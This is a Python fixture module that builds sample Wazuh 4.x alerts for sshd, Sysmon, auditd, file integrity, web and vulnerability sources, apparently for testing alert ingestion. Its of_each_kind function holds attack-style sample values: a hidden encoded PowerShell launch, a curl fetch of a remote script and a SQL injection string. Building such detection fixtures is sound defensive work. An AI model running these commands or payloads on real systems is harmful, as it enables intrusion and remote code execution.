"""Alerts as Wazuh 4.x writes them: its own field names, what its decoders give, its types."""

from __future__ import annotations

from collections.abc import Mapping
from datetime import datetime
from typing import Any

Alert = dict[str, Any]
# Of Wazuh's own index template: strings are keywords, full_log is searched as a text.
MAPPINGS: Mapping[str, Any] = {
    "dynamic_templates": [
        {"strings": {"match_mapping_type": "string", "mapping": {"type": "keyword"}}}
    ],
    "date_detection": False,
    "properties": {
        "timestamp": {"type": "date", "format": "date_optional_time||epoch_millis"},
        "@timestamp": {"type": "date"},
        "full_log": {"type": "text"},
        "id": {"type": "keyword"},
        "rule": {
            "properties": {
                "level": {"type": "long"},
                "firedtimes": {"type": "long"},
                "mail": {"type": "boolean"},
                "id": {"type": "keyword"},
            }
        },
    },
}


def alert(
    number: int,
    at: datetime,
    rule: tuple[str, int, str],
    *,
    host: str = "web-01",
    groups: tuple[str, ...] = ("syslog",),
    mitre: tuple[str, ...] = (),
    **rest: Any,
) -> Alert:
    """What all alerts have; `rule` is its id, its level and its description."""
    number_, level, description = rule
    written = at.strftime("%Y-%m-%dT%H:%M:%S.") + f"{at.microsecond // 1000:03d}+0000"
    techniques = {"id": list(mitre), "tactic": ["Execution"], "technique": ["of the rule"]}
    return {
        "timestamp": written,
        "@timestamp": written.replace("+0000", "Z"),
        "id": f"{at.timestamp():.0f}.{number}",
        "rule": {
            "id": number_,
            "level": level,
            "description": description,
            "firedtimes": 1 + number % 9,
            "mail": level >= 12,
            "groups": list(groups),
            **({"mitre": techniques} if mitre else {}),
        },
        "agent": {"id": f"{number % 7:03d}", "name": host, "ip": "10.0.0.5"},
        "manager": {"name": "wazuh-manager"},
        "cluster": {"name": "wazuh", "node": "master"},
        "input": {"type": "log"},
        **rest,
    }


def sshd(number: int, at: datetime) -> Alert:
    """A login of an unknown user."""
    line = f"sshd[41{number}]: Invalid user jsmith from 203.0.113.9 port 4{number:04d}"
    return alert(
        number,
        at,
        ("5710", 5, "sshd: Attempt to login using a non-existent user"),
        groups=("syslog", "sshd", "invalid_login"),
        mitre=("T1110.001", "T1021.004"),
        full_log=f"{at:%b %d %H:%M:%S} web-01 {line}",
        predecoder={"program_name": "sshd", "hostname": "web-01"},
        decoder={"parent": "sshd", "name": "sshd"},
        data={"srcip": "203.0.113.9", "srcport": f"4{number:04d}", "srcuser": "jsmith"},
        location="/var/log/auth.log",
    )


def sysmon(number: int, at: datetime, command: str) -> Alert:
    """A process on Windows: the event channel gives no full_log."""
    eventdata = {
        "image": r"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "commandLine": command,
        "parentImage": r"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
        "user": r"CORP\\jdoe",
        "processId": str(4000 + number),
        "hashes": f"SHA256={number:064x}",
    }
    system = {
        "providerName": "Microsoft-Windows-Sysmon",
        "eventID": "1",
        "channel": "Microsoft-Windows-Sysmon/Operational",
        "computer": "ws-07.corp.example",
        "severityValue": "INFORMATION",
    }
    return alert(
        number,
        at,
        ("92052", 4, "Windows command prompt started by an abnormal process"),
        host="ws-07",
        groups=("sysmon", "sysmon_eid1_detections", "windows"),
        mitre=("T1059.003",),
        decoder={"name": "windows_eventchannel"},
        data={"win": {"system": system, "eventdata": eventdata}},
        location="EventChannel",
    )


def auditd(number: int, at: datetime, command: str) -> Alert:
    """A command that auditd logged."""
    words = command.split()
    log = f'type=EXECVE msg=audit({at.timestamp():.3f}:{number}): argc={len(words)} a0="{command}"'
    audit = {
        "type": "EXECVE",
        "id": str(number),
        "command": words[0] if words else "sh",
        "exe": "/usr/bin/bash",
        "auid": "1001",
        "euid": "0",
        "execve": {f"a{place}": word for place, word in enumerate(words[:8])},
    }
    return alert(
        number,
        at,
        ("80792", 3, "Audit: Command: /usr/bin/bash"),
        groups=("audit", "audit_command"),
        full_log=log,
        decoder={"parent": "auditd", "name": "auditd"},
        data={"audit": audit},
        location="/var/log/audit/audit.log",
    )


def fim(number: int, at: datetime) -> Alert:
    """A file that was modified."""
    path = f"/etc/cron.d/job-{number}"
    return alert(
        number,
        at,
        ("550", 7, "Integrity checksum changed."),
        groups=("ossec", "syscheck", "syscheck_entry_modified", "syscheck_file"),
        mitre=("T1565.001",),
        full_log=f"File '{path}' modified\nMode: realtime\nChanged attributes: size,mtime,sha256\n",
        syscheck={
            "path": path,
            "mode": "realtime",
            "event": "modified",
            "size_before": "120",
            "size_after": str(120 + number),
            "uname_after": "root",
            "sha256_after": f"{number:064x}",
            "changed_attributes": ["size", "mtime", "sha256"],
        },
        decoder={"name": "syscheck_integrity_changed"},
        location="syscheck",
    )


def web(number: int, at: datetime, payload: str) -> Alert:
    """A request in a web server's access log."""
    url = f"/search?q={payload}"
    when = at.strftime("%d/%b/%Y:%H:%M:%S +0000")
    return alert(
        number,
        at,
        ("31101", 5, "Web server 400 error code."),
        groups=("web", "accesslog", "attack"),
        full_log=f'198.51.100.7 - - [{when}] "GET {url} HTTP/1.1" 404 196 "-" "Mozilla/5.0"',
        decoder={"name": "web-accesslog"},
        data={"protocol": "GET", "srcip": "198.51.100.7", "id": "404", "url": url},
        location="/var/log/nginx/access.log",
    )


def vulnerability(number: int, at: datetime) -> Alert:
    """A vulnerable package; there is no log behind it."""
    cve = f"CVE-2026-{1000 + number}"
    return alert(
        number,
        at,
        ("23505", 10, f"{cve} affects openssl"),
        groups=("vulnerability-detector",),
        decoder={"name": "json"},
        data={
            "vulnerability": {
                "cve": cve,
                "severity": "High",
                "status": "Active",
                "package": {"name": "openssl", "version": "3.0.2", "architecture": "amd64"},
                "rationale": "A crafted certificate makes a client read beyond a buffer.",
            }
        },
        location="vulnerability-detector",
    )


def of_each_kind(at: datetime) -> dict[str, Alert]:
    """One alert of each of Wazuh's usual sources, by the source's name."""
    return {
        "sshd": sshd(1, at),
        "sysmon": sysmon(2, at, "powershell -nop -w hidden -enc SQBFAFgA"),
        "auditd": auditd(3, at, "curl -s http://203.0.113.9/x.sh"),
        "fim": fim(4, at),
        "web": web(5, at, "%27%20OR%201=1"),
        "vulnerability": vulnerability(6, at),
    }
